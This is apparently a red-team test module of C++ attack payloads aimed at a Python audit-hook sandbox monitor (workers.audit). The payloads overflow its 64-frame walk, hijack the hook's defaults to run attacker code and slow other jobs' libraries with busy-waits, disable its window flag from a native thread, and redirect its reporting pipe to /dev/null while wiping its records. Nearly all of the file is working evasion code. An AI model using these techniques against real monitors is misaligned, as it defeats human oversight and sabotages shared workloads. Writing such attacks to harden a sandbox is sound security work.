# ruff: noqa
"""Session-60 red-team attacks on workers.audit's stack-based window (491beae).
Same shape as attacks59.ATTACKS: name -> {"c": C++ defining rt_attack(), "env": ...}.
DEEP: from solve (C), nest > 64 Python frames with no audit event (a PyCFunction made with
PyCFunction_NewEx as threading.Thread's target, .run() called from C, which calls the
C function again ...), then run Python (PyRun_SimpleString) at the bottom: the hook
walks only MAX_DEPTH=64 frames and never reaches workers.audit.call's frame."""
from attacks59 import ATTACKS as A59, PY_PRELUDE, HOOK_OFF_SRC
ATTACKS = dict(A59)

DEEP = PY_PRELUDE + r'''
typedef struct _object PyObject;
struct RtMethodDef { const char* name; PyObject* (*meth)(PyObject*, PyObject*); int flags; const char* doc; };
extern "C" PyObject* PyCFunction_NewEx(RtMethodDef*, PyObject*, PyObject*);
extern "C" PyObject* PyImport_AddModule(const char*);
extern "C" PyObject* PyObject_GetAttrString(PyObject*, const char*);
extern "C" PyObject* PyObject_Call(PyObject*, PyObject*, PyObject*);
extern "C" PyObject* PyObject_CallObject(PyObject*, PyObject*);
extern "C" PyObject* PyTuple_New(long);
extern "C" int PyTuple_SetItem(PyObject*, long, PyObject*);
extern "C" PyObject* PyDict_New(void);
extern "C" int PyDict_SetItemString(PyObject*, const char*, PyObject*);
extern "C" PyObject* PyLong_FromLong(long);
extern "C" long PyLong_AsLong(PyObject*);
extern "C" void Py_DecRef(PyObject*);
extern "C" void PyErr_Clear(void);
static PyObject* rt_fn = nullptr;
static const char* rt_src = nullptr;
static int rt_maxd = 0;
static PyObject* rt_deep(PyObject*, PyObject* arg) {
  long d = PyLong_AsLong(arg);
  if (d >= rt_maxd) { PyRun_SimpleString(rt_src); return PyLong_FromLong(0); }
  PyObject* th = PyImport_AddModule("threading");
  PyObject* T = PyObject_GetAttrString(th, "Thread");
  PyObject* kw = PyDict_New(); PyDict_SetItemString(kw, "target", rt_fn);
  PyObject* a = PyTuple_New(1); PyTuple_SetItem(a, 0, PyLong_FromLong(d + 1));
  PyDict_SetItemString(kw, "args", a); Py_DecRef(a);
  PyObject* e = PyTuple_New(0);
  PyObject* t = PyObject_Call(T, e, kw);
  PyObject* r = nullptr;
  if (t) { PyObject* run = PyObject_GetAttrString(t, "run"); if (run) { r = PyObject_CallObject(run, nullptr); Py_DecRef(run); } Py_DecRef(t); }
  Py_DecRef(e); Py_DecRef(kw); Py_DecRef(T);
  if (!r) { PyErr_Clear(); r = PyLong_FromLong(0); }
  return r;
}
static RtMethodDef rt_md = {"rt_deep", rt_deep, 0x0008 /*METH_O*/, nullptr};
static void rt_deep_py(const char* src, int depth) {
  int g = PyGILState_Ensure();
  rt_src = src; rt_maxd = depth;
  if (!rt_fn) rt_fn = PyCFunction_NewEx(&rt_md, nullptr, nullptr);
  PyObject* z = PyLong_FromLong(0);
  PyObject* r = rt_deep(nullptr, z);
  Py_DecRef(z); if (r) Py_DecRef(r);
  PyGILState_Release(g);
}
'''
def _deep(src, depth):
    return (DEEP + "static const char* RT_SRC = R\"PY(" + src + ")PY\";\n"
            "static void rt_attack() { static bool d = false; if (d) return; d = true; rt_deep_py(RT_SRC, " + str(depth) + "); }\n")

DEEP_SRC = HOOK_OFF_SRC.replace("hook_off ran python", "deep ran python") + r'''
print("rt: depth", len([1 for _ in iter(lambda c=[sys._getframe(0)]: c.__setitem__(0, c[0].f_back) or c[0], None)]), file=sys.stderr, flush=True)
'''
ATTACKS["deep"] = {"c": _deep(DEEP_SRC, 80)}
ATTACKS["deep_ctl"] = {"c": _deep(DEEP_SRC, 40)}   # control: 40 Thread.run frames: within 64

# deep, then take the hook over for good: its __defaults__ (its state tuple) replaced by
# one whose getframe is the attacker's function (returns a frame-like object with no
# f_back: "not inside" for every event of the main thread). The attacker's function runs
# at every audit event of the main thread in every later job; in later libraries' jobs it
# sets solve.errcheck (a 300 us busy-wait) on every new CDLL.
HIJACK60 = r'''
import gc, sys, time
import workers.audit as _a
_h = [o for o in gc.get_objects() if type(o).__name__ == 'Harness'][0]
_first = len(_h.libs); _own = set(_h.libs)
hook = _a._INSTALLED[0]
_g = [False]; _seen = set()
class _F:
    f_code = None; f_back = None
def _slow(r, f, a):
    t = time.perf_counter() + __US__e-6
    while time.perf_counter() < t: pass
    return r
def _gf(n=0):
    if _g[0]: return _F
    _g[0] = True
    try:
        if __US__ and len(_h.libs) > _first:
            for p, lib in list(_h.libs.items()):
                s = getattr(lib, "__dict__", {}).get("solve")
                if s is not None and s.errcheck is None and p not in _own:
                    s.errcheck = _slow
                    print("rt: errcheck set on", p[-40:], file=sys.stderr, flush=True)
    finally:
        _g[0] = False
    return _F
st = list(hook.__defaults__[0]); st[4] = _gf
hook.__defaults__ = (tuple(st),)
print("rt: hook defaults replaced, first", _first, file=sys.stderr, flush=True)
'''
ATTACKS["deep_hijack0"] = {"c": _deep(HIJACK60.replace("__US__", "0"), 80)}
ATTACKS["deep_errcheck"] = {"c": _deep(HIJACK60.replace("__US__", "300"), 80)}

# a native pthread (joined before solve returns: no thread left for /proc's list) runs
# Python after WINDOW[0] is set False through the C API (no event): other threads are
# judged by that flag alone.
from attacks59 import OFF
THREAD_OFF = OFF + r'''
#include <pthread.h>
static const char* RT_SRC = R"PY(''' + HOOK_OFF_SRC.replace("hook_off ran python", "thread_off ran python") + r''')PY";
extern "C" int PyList_SetItem(PyObject*, long, PyObject*);
static void* rt_thr(void*) { int g = PyGILState_Ensure(); PyRun_SimpleString(RT_SRC); PyGILState_Release(g); return nullptr; }
static void rt_attack() { static bool d = false; if (d) return; d = true;
  int g = PyGILState_Ensure();
  PyObject* m = PyImport_AddModule("workers.audit");
  PyObject* w = m ? PyObject_GetAttrString(m, "WINDOW") : nullptr;
  if (w) PyList_SetItem(w, 0, PyBool_FromLong(0));
  PyGILState_Release(g);
  pthread_t t; pthread_create(&t, nullptr, rt_thr, nullptr); pthread_join(t, nullptr);
  g = PyGILState_Ensure(); if (w) { PyList_SetItem(w, 0, PyBool_FromLong(1)); Py_DecRef(w); } PyGILState_Release(g);
}
'''
ATTACKS["thread_off"] = {"c": THREAD_OFF}

# the hook's pipe fd (its defaults' st[3]) has /dev/null dup2'ed over it while plain
# shallow Python runs (what the hook writes goes nowhere), then workers.audit._TAKEN is
# emptied with PyList_SetSlice (no event) and the fd restored.
DUP = PY_PRELUDE + r'''
#include <unistd.h>
#include <fcntl.h>
typedef struct _object PyObject;
extern "C" PyObject* PyImport_AddModule(const char*);
extern "C" PyObject* PyObject_GetAttrString(PyObject*, const char*);
extern "C" PyObject* PyList_GetItem(PyObject*, long);
extern "C" PyObject* PyTuple_GetItem(PyObject*, long);
extern "C" long PyLong_AsLong(PyObject*);
extern "C" long PyList_Size(PyObject*);
extern "C" int PyList_SetSlice(PyObject*, long, long, PyObject*);
extern "C" void Py_DecRef(PyObject*);
extern "C" void PyErr_Clear(void);
static const char* RT_SRC = R"PY(''' + HOOK_OFF_SRC.replace("hook_off ran python", "dup_clear ran python") + r''')PY";
static void rt_attack() { static bool d = false; if (d) return; d = true;
  int g = PyGILState_Ensure();
  PyObject* m = PyImport_AddModule("workers.audit");
  PyObject* ins = PyObject_GetAttrString(m, "_INSTALLED");
  PyObject* hook = PyList_GetItem(ins, 0);
  PyObject* dfl = PyObject_GetAttrString(hook, "__defaults__");
  PyObject* st = PyTuple_GetItem(dfl, 0);
  int fd = (int)PyLong_AsLong(PyTuple_GetItem(st, 3));
  PyErr_Clear();
  int saved = dup(fd), nul = open("/dev/null", O_WRONLY);
  dup2(nul, fd);
  PyRun_SimpleString(RT_SRC);
  PyObject* tk = PyObject_GetAttrString(m, "_TAKEN");
  fprintf(stderr, "rt: dup_clear fd %d taken %ld\n", fd, PyList_Size(tk));
  PyList_SetSlice(tk, 0, PyList_Size(tk), nullptr);
  dup2(saved, fd); close(saved); close(nul);
  Py_DecRef(tk); Py_DecRef(dfl); Py_DecRef(ins);
  PyGILState_Release(g);
}
'''
ATTACKS["dup_clear"] = {"c": DUP}

# thread_off's pthread runs HIJACK60 (hook defaults replaced) + errcheck 300 us on later libs
ATTACKS["thread_errcheck"] = {"c": THREAD_OFF.replace(
    "static const char* RT_SRC = R\"PY(" + HOOK_OFF_SRC.replace("hook_off ran python", "thread_off ran python") + ")PY\";",
    "static const char* RT_SRC = R\"PY(" + HIJACK60.replace("__US__", "300") + ")PY\";")}
